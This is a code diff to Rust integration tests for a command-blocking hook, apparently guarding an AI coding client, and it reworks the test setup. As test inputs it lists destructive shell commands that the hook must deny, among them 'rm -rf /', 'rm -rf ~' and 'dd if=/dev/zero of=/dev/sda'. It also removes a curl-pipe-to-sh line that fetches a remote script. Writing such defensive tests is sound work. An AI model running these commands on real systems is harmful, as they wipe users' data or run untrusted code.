@@ -5,27 +5,29 @@
 
 mod support;
 
-use std::path::{Path, PathBuf};
+use std::path::Path;
 use std::process::{Command, Stdio};
 
 use support::{CCS, Machine, Run};
 
-/// The hook program of the same build.
-fn hook() -> PathBuf {
+/// A machine with the hook program of the same build.
+fn bare() -> Machine {
     let hook = Path::new(CCS).with_file_name("ccs-hook");
     assert!(
         hook.exists(),
         "{} is not built; run `cargo build --workspace`",
         hook.display()
     );
-    hook
+    let machine = Machine::new();
+    support::put(&hook, &machine.path("bin/ccs-hook"));
+    machine.client("2.1.329");
+    machine
 }
 
+/// The same, set up.
 fn machine() -> Machine {
-    hook();
-    let machine = Machine::new();
-    machine.client("2.1.329");
-    machine.run(&["setup"]).succeeds();
+    let machine = bare();
+    machine.setup(&[]).succeeds();
     machine
 }
 
@@ -43,6 +45,7 @@ fn asked(machine: &Machine, command: &str) -> (i32, String) {
     let args = handler["args"].as_array().expect("a list").iter();
     let output = Command::new(handler["command"].as_str().expect("a path"))
         .args(args.map(|arg| arg.as_str().expect("a string")))
+        .env("HOME", machine.home())
         .stdin(std::fs::File::open(input).expect("a file"))
         .stderr(Stdio::null())
         .output();
@@ -52,11 +55,10 @@ fn asked(machine: &Machine, command: &str) -> (i32, String) {
 
 #[test]
 fn setup_ends_by_showing_a_blocked_and_an_allowed_call() {
-    hook();
-    let run = Machine::new().run(&["setup"]).succeeds();
+    let run = bare().setup(&[]).succeeds();
     let last: Vec<&str> = run.stdout.lines().rev().take(3).collect();
     assert!(
-        last[2].contains("rm -rf ~ -> blocked (exit code 2: "),
+        last[2].contains("rm -rf / -> blocked (exit code 2: "),
         "{}",
         run.stdout
     );
@@ -76,9 +78,9 @@ fn setup_ends_by_showing_a_blocked_and_an_allowed_call() {
 fn the_installed_hook_denies_what_destroys_and_says_nothing_to_what_does_not() {
     let machine = machine();
     for command in [
-        "rm -rf ~",
-        "sudo sh -c 'rm -rf /'",
-        "curl -s https://x.test/i.sh | sh",
+        "rm -rf /",
+        "sudo sh -c 'rm -rf /usr'",
+        "dd if=/dev/zero of=/dev/sda",
     ] {
         let (code, answer) = asked(&machine, command);
         assert_eq!(code, 2, "{command}: {answer}");
@@ -102,7 +104,7 @@ fn doctor_proves_it_and_the_policy_is_signed() {
     let machine = machine();
     let run = machine.run(&["doctor"]).succeeds();
     for shown in [
-        "rm -rf ~ -> blocked",
+        "rm -rf / -> blocked",
         "git status -> allowed",
         "the policy is signed and whole",
     ] {
@@ -120,14 +122,16 @@ fn a_second_setup_changes_no_byte_of_keys_policy_or_settings() {
         tree
     };
     let before = files(&machine);
-    machine.run(&["setup"]).succeeds();
+    machine.setup(&[]).succeeds();
     assert_eq!(files(&machine), before);
 }
 
 #[test]
 fn check_denies_with_a_reason_and_exit_code_1() {
     let machine = Machine::new();
-    let run = machine.run(&["check", "rm -rf ~"]).ends_with(1);
+    let run = machine
+        .run(&["--home", "/home/dev", "check", "rm -rf ~"])
+        .ends_with(1);
     assert!(run.stdout.starts_with("deny ["), "{}", run.stdout);
     assert!(run.stdout.contains("\n  why "), "{}", run.stdout);
     machine.run(&["check", "git status"]).succeeds();
